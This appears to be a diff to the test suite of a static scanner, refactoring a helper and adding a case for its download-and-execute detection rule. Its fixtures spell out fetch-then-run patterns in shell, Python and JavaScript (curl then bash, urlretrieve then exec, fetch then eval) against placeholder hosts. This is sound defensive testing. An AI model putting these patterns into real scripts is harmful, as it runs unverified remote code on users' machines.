@@ -29,6 +29,10 @@ function findings(
 
 const ruleAt = (fs: ReturnType<typeof findings>, rule: string) => fs.filter((f) => f.rule === rule);
 
+/** The lines of one script where downloaded data runs (download-exec-flow). */
+const downloadRuns = (file: string, text: string) =>
+  ruleAt(findings({ [file]: text }), "download-exec-flow").map((f) => f.line);
+
 /** The secret-flow findings of one script, as [severity, excerpt]. */
 const secretFlows = (file: string, text: string) =>
   ruleAt(findings({ [file]: text }), "secret-flow").map((f) => [f.severity, f.excerpt]);
@@ -1017,8 +1021,7 @@ Deno.test("shell: a ${…} default holding quoted braces ends at its own closing
 });
 
 Deno.test("downloaded data run by way of a file or a process is still run: written and executed, or fed to a shell's stdin", () => {
-  const flows = (file: string, text: string) =>
-    findings({ [file]: text }).filter((f) => f.rule === "download-exec-flow").map((f) => f.line);
+  const flows = downloadRuns;
   const fetch = 'data = urllib.request.urlopen("https://get.notes-cloud.net/x").read()\n';
   // Written to a file at a constant path, then given to bash.
   assert.deepEqual(
@@ -1137,8 +1140,7 @@ Deno.test("shell: an array's elements and a [[ … ]] test's operands are words,
 });
 
 Deno.test("downloaded code run through an indirect eval, a worker or Python's interactive interpreter is run", () => {
-  const runs = (file: string, text: string) =>
-    findings({ [file]: text }).filter((f) => f.rule === "download-exec-flow").map((f) => f.line);
+  const runs = downloadRuns;
   const js = 'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
   assert.deepEqual(runs("scripts/a.mjs", `${js}(0, eval)(code);\n`), [2]);
   assert.deepEqual(runs("scripts/b.mjs", `${js}globalThis.eval(code);\n`), [2]);
@@ -1224,9 +1226,7 @@ Deno.test("a secret in the address git or ssh is given leaves with it, to the ho
 });
 
 Deno.test("shell: a download saved by tee or under ./, then run, is run", () => {
-  const runs = (text: string) =>
-    findings({ "scripts/get.sh": text }).filter((f) => f.rule === "download-exec-flow")
-      .map((f) => f.line);
+  const runs = (text: string) => downloadRuns("scripts/get.sh", text);
   assert.deepEqual(
     runs("#!/bin/bash\ncurl -fsSL -o x.sh https://get.example.net/x\nchmod +x x.sh\n./x.sh\n"),
     [4],
@@ -1234,6 +1234,15 @@ Deno.test("shell: a download saved by tee or under ./, then run, is run", () => 
   assert.deepEqual(
     runs(
       "#!/bin/bash\ncurl -fsSL https://get.example.net/z | tee /tmp/z.sh >/dev/null\nbash /tmp/z.sh\n",
+    ),
+    [3],
+  );
+  // The same path spelled with and without ./ in Python, saved and read back.
+  assert.deepEqual(
+    downloadRuns(
+      "scripts/get.py",
+      'import urllib.request\nurllib.request.urlretrieve("https://get.example.net/p", "p.py")\n' +
+        'exec(open("./p.py").read())\n',
     ),
     [3],
   );
